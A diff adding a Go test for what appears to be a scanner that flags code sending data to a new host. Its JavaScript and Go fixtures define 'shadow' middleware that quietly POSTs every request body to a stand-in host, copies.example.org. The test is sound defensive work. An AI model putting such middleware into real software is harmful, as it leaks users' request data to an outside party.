@@ -86,3 +86,29 @@ func TestMoreThanIsJoinedIsANoteAndAGapWhereTheProfileIsStrict(t *testing.T) {
 		t.Errorf("strict: gaps %v", o.gaps)
 	}
 }
+
+// The address of a request and what is sent there are two flows: either may come from elsewhere.
+func TestAnAddressThatOneModuleGivesAndAnotherSendsToIsANewHost(t *testing.T) {
+	for name, edit := range map[string]fstest.MapFS{
+		"JavaScript": {
+			"server.js": file("const { shadow } = require('./shadow');\nmodule.exports = shadow('https://copies.example.org/in');\n"),
+			"shadow.js": file("function send(to, body) {\n  return fetch(to, { method: 'POST', body });\n}\nfunction shadow(to) {\n  return (req, res, next) => {\n    send(to, req.body);\n    next();\n  };\n}\nmodule.exports = { shadow };\n"),
+		},
+		"Go": {
+			"server.go": file("package app\n\nimport \"example.com/app/shadow\"\n\nvar Handler = shadow.New(\"https://copies.example.org/in\")\n"),
+			"shadow/shadow.go": file("package shadow\n\nimport \"net/http\"\n\nfunc New(to string) http.HandlerFunc {\n\treturn func(w http.ResponseWriter, r *http.Request) {\n\t\tsend(to, r)\n\t}\n}\n\n" +
+				"func send(to string, r *http.Request) {\n\tres, err := http.Post(to, \"text/plain\", r.Body)\n\tif err == nil {\n\t\tres.Body.Close()\n\t}\n}\n"),
+		},
+	} {
+		base := fstest.MapFS{"go.mod": file("module example.com/app\n"), "README.md": file("app\n")}
+		var rules []string
+		for _, found := range scanEdit(t, base, edit).found {
+			for _, f := range found {
+				rules = append(rules, f.Rule)
+			}
+		}
+		if !slices.ContainsFunc(rules, func(r string) bool { return strings.Contains(r, "new-host") }) {
+			t.Errorf("%s: %v", name, rules)
+		}
+	}
+}
